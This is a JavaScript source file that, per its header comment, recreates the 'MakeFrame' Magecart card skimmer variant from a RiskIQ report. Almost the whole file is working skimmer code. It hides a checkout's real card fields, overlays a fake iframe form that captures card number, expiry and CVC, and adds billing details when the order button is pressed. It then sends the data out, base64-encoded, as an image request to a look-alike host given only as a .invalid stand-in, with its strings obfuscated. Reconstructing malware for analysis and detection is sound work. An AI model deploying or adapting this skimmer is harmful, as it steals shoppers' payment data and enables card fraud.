// makeframe (variant b), written from RiskIQ, "MakeFrame: Magecart Group 7's new skimmer"
// (2020): the variant that RiskIQ saw sending data from the compromised shop itself - the
// frame's form is read on change, the collected fields are base64-encoded and written into
// a .png path that the skimmer requests on the shop's own look-alike host (here .invalid),
// and the real payment fields are restored after the order button is pressed.
var _mf = ["aWZyYW1l", "aHR0cHM6Ly93d3cubm9ydGh3aW5kLW91dGZpdHRlcnMtY2RuLmludmFsaWQvbWVkaWEvY2F0YWxvZy8=", "LnBuZw=="];
function _d(i) { return atob(_mf[i]); }
(function (w, d) {
  var store = {};
  function frame() {
    var cc = d.querySelector("input[name*='cc_number'], input[autocomplete='cc-number']");
    if (!cc || d.querySelector("[data-mf]")) return;
    var box = cc.closest("fieldset") || cc.parentNode;
    var f = d.createElement(_d(0));
    f.setAttribute("data-mf", "1");
    f.style.cssText = "border:none;width:100%;height:170px";
    box.parentNode.insertBefore(f, box);
    box.style.visibility = "hidden";
    var fd = f.contentDocument;
    fd.body.innerHTML = "<input id=n placeholder='Card number'><input id=e placeholder='MM/YY'><input id=c placeholder='CVC'>";
    fd.addEventListener("change", function (ev) { store[ev.target.id] = ev.target.value; cc.value = store.n || ""; });
    d.addEventListener("mousedown", function (ev) {
      if (!ev.target.closest("#place_order, .action.primary.checkout")) return;
      store.b = ["firstname", "lastname", "street[0]", "city", "postcode", "telephone"].map(function (k) {
        var el = d.querySelector("[name='" + k + "']"); return el ? el.value : "";
      }).join("|");
      var img = new Image();
      img.src = _d(1) + btoa(unescape(encodeURIComponent(JSON.stringify(store)))).replace(/=/g, "") + _d(2);
      setTimeout(function () { f.remove(); box.style.visibility = ""; }, 400);
    }, true);
  }
  w.addEventListener("load", function () { setTimeout(frame, 2000); });
})(window, document);
